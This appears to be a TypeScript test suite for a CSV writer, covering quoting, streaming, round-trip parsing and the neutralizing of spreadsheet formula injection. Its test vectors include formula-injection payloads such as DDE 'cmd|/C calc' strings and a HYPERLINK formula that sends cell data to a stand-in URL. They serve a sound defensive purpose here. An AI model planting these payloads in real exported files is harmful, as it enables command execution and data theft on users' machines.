// CSV there and back, and what spreadsheets would make of it.
import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import fc from 'fast-check'
import { anyCharacter } from '../../../test/support/builders/any-character.ts'
import { csvLine, neutralizeFormula, removeFormulaMark, writeCsv } from './write-csv.ts'

/** Strictly by RFC 4180: quotes stand around a whole cell or not at all, and every row ends with CR LF. */
function parse(text: string): readonly (readonly string[])[] {
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y
  const rows: string[][] = []
  let row: string[] = []
  while (cell.lastIndex < text.length) {
    const [, quoted, plain = '', end] = cell.exec(text) ?? assert.fail('this is no CSV')
    row.push(quoted?.replaceAll('""', '"') ?? plain)
    if (end !== '\r\n') continue
    rows.push(row)
    row = []
  }
  assert.deepEqual(row, [], 'the last row ends, too')
  return rows
}

/** Text of the kind that goes wrong, as often as any other. */
const awkward = fc
  .array(fc.constantFrom('=', '+', '-', '@', '＝', '＠', '\t', '\r', '\n', ' ', "'", '"', ',', ';', '1', 'a', '\u00a0'))
  .map((characters) => characters.join(''))
const anyText = fc.oneof(fc.string({ unit: 'grapheme' }), fc.string({ unit: anyCharacter }), awkward)
/** By a wide definition: anything that is not a number and has such a character first, blanks and the like aside. */
const looksLikeFormula = /^[\s\p{C}]*[=+\-@＝＋－＠]/u
const numberText = /^-?\d+(\.\d+)?$/

async function textOf(headings: readonly string[], rows: Iterable<readonly (string | undefined)[]>): Promise<string> {
  return (await Array.fromAsync(writeCsv(headings, rows))).join('')
}

describe('a CSV file', () => {
  it('has its headings first, commas between cells, CR LF after rows and nothing for what is absent', async () => {
    assert.equal(
      await textOf(
        ['Order', 'Amount'],
        [
          ['a', '1.50'],
          [undefined, '2'],
        ],
      ),
      'Order,Amount\r\na,1.50\r\n,2\r\n',
    )
  })

  it('quotes what would otherwise be read as something else', () => {
    assert.equal(
      csvLine(['a,b', 'say "hi"', 'two\r\nlines', ' blank', 'x;y']),
      '"a,b","say ""hi""","two\r\nlines"," blank","x;y"\r\n',
    )
  })

  it('keeps a row that holds one absent value', () => {
    assert.equal(csvLine([undefined]), '""\r\n')
  })

  it('is read back unchanged, whatever its cells hold', async () => {
    const width = fc.integer({ min: 1, max: 5 })
    const rows = width.chain((cells) =>
      fc.array(fc.array(anyText, { minLength: cells, maxLength: cells }), { minLength: 1 }),
    )
    await fc.assert(
      fc.asyncProperty(rows, async (given) => {
        const [headings = [], ...rest] = given
        const back = parse(await textOf(headings, rest))
        assert.deepEqual(
          back.map((row) => row.map(removeFormulaMark)),
          given.map((row) => row.map((cell) => cell.toWellFormed())),
        )
      }),
      { numRuns: 1_000 },
    )
  })

  it('is produced piece by piece, and takes no row before it is needed', async () => {
    let taken = 0
    function* rows() {
      for (;;) {
        taken += 1
        yield ['x'.repeat(1_000)]
      }
    }
    const pieces = writeCsv(['x'], rows())
    const { value = '' } = await pieces.next()
    assert.ok(value.length < 20_000 && taken < 20, `${value.length} characters of ${taken} rows`)
    await pieces.return()
  })
})

describe('a cell that a spreadsheet could take for a formula', () => {
  const vectors = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\tx',
    '\rx',
    '  =1+1',
    '\u00a0=1+1',
    '\ufeff=1+1',
    '\u200b=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com?x="&A1,"open")',
    '-2+3+cmd|" /C calc"!A0',
    '+49 30 1234',
    '-',
    '-1e5',
    '--5',
  ]
  for (const text of vectors)
    it(`is marked as text: ${JSON.stringify(text)}`, () => {
      assert.equal(neutralizeFormula(text)[0], "'")
      assert.equal(removeFormulaMark(neutralizeFormula(text)), text)
    })

  it('is marked also where a spreadsheet splits at semicolons, tabs or lines', () => {
    assert.equal(neutralizeFormula('a;=1+1'), "a;'=1+1")
    assert.equal(neutralizeFormula('a\n=1+1;-x'), "a\n'=1+1;'-x")
    assert.equal(neutralizeFormula('a\t @x'), "a\t' @x")
  })

  it('is left alone when it is a number or an ordinary text', () => {
    for (const text of ['-12.50', '-1', '0', '12.50', '512345xxxxxx0008', 'a-b', 'x=y', "it's", "'quoted'", '', 'a;b'])
      assert.equal(neutralizeFormula(text), text)
  })

  it('never gets through, and every mark can be taken away again', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const written = neutralizeFormula(text)
        for (const part of [written, ...written.split(/[;\t\r\n]/)])
          assert.ok(!looksLikeFormula.test(part) || numberText.test(written), JSON.stringify(written))
        assert.equal(removeFormulaMark(written), text.toWellFormed())
      }),
      { numRuns: 5_000 },
    )
  })
})
